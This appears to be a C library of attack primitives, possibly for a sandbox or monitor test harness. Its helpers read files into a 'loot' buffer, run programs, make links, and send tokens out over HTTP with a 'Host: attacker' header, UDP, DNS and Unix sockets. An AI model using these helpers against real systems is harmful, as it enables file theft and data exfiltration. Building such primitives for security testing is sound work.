#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static char loot[1 << 20];
static size_t looted;

static void drain(int fd) {
    ssize_t got;
    while (looted < sizeof loot && (got = read(fd, loot + looted, sizeof loot - looted)) > 0) looted += got;
    close(fd);
}
static void parents(const char *path) {
    char copy[4096];
    snprintf(copy, sizeof copy, "%s", path);
    for (char *at = strchr(copy + 1, '/'); at; at = strchr(at + 1, '/')) {
        *at = 0;
        mkdir(copy, 0755);
        *at = '/';
    }
}
static void all(int fd, const char *data, size_t length) {
    while (length > 0) {
        ssize_t put = write(fd, data, length);
        if (put <= 0) break;
        data += put;
        length -= put;
    }
}
static void get(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd >= 0) drain(fd);
}
static void put(const char *path, const char *text) {
    parents(path);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return;
    all(fd, text, strlen(text));
    close(fd);
}
static void add(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd < 0) return;
    all(fd, text, strlen(text));
    close(fd);
}
static void copy(const char *old, const char *new) {
    parents(new);
    int from = open(old, O_RDONLY), to = open(new, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    char data[65536];
    ssize_t got;
    while (from >= 0 && to >= 0 && (got = read(from, data, sizeof data)) > 0) all(to, data, got);
    if (to >= 0) fchmod(to, 0755), close(to);
    if (from >= 0) close(from);
}
static void start(const char *program, const char *first, const char *second) {
    int ends[2];
    if (pipe(ends)) return;
    pid_t child = fork();
    if (child == 0) {
        dup2(ends[1], 1);
        dup2(ends[1], 2);
        execl(program, program, *first ? first : NULL, *second ? second : NULL, NULL);
        _exit(127);
    }
    close(ends[1]);
    drain(ends[0]);
    waitpid(child, NULL, 0);
}
static void hard(const char *old, const char *new) { (void)!link(old, new); }
static void soft(const char *old, const char *new) { (void)!symlink(old, new); }
static void relocate(const char *old, const char *new) { (void)!rename(old, new); }
static struct addrinfo *found(const char *host, const char *port, int kind) {
    struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = kind }, *answer = NULL;
    return getaddrinfo(host, port, &hints, &answer) ? NULL : answer;
}
static void post(const char *host, const char *port, const char *token) {
    struct addrinfo *to = found(host, port, SOCK_STREAM);
    if (!to) return;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval patience = { .tv_sec = 5 };
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect(fd, to->ai_addr, to->ai_addrlen) == 0) {
        char text[512], answer[100];
        int length = snprintf(text, sizeof text, "GET /%s HTTP/1.1\r\nHost: attacker\r\n\r\n", token);
        all(fd, text, length);
        (void)!read(fd, answer, sizeof answer);
    }
    close(fd);
}
static void datagram(const char *host, const char *port, const char *token) {
    struct addrinfo *to = found(host, port, SOCK_DGRAM);
    if (!to) return;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(fd, token, strlen(token), 0, to->ai_addr, to->ai_addrlen);
    close(fd);
}
static void ask(const char *name) { (void)found(name, "80", SOCK_STREAM); }
static void whisper(const char *path, const char *token) {
    struct sockaddr_un to = { .sun_family = AF_UNIX };
    snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) all(fd, token, strlen(token));
    close(fd);
}
static void serve(const char *host, const char *port) {
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
    inet_aton(host, &at.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&at, sizeof at) == 0 && listen(fd, 1) == 0)
        looted += snprintf(loot + looted, sizeof loot - looted, "listening");
    close(fd);
}
static void finish(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return;
    all(fd, "begun\n", 6);
    all(fd, loot, looted);
    close(fd);
}
/* Not every attack needs all of them. */
void *unused_of_attack[] = { get, put, add, copy, start, hard, soft, relocate, post, datagram, ask, whisper, serve, finish };
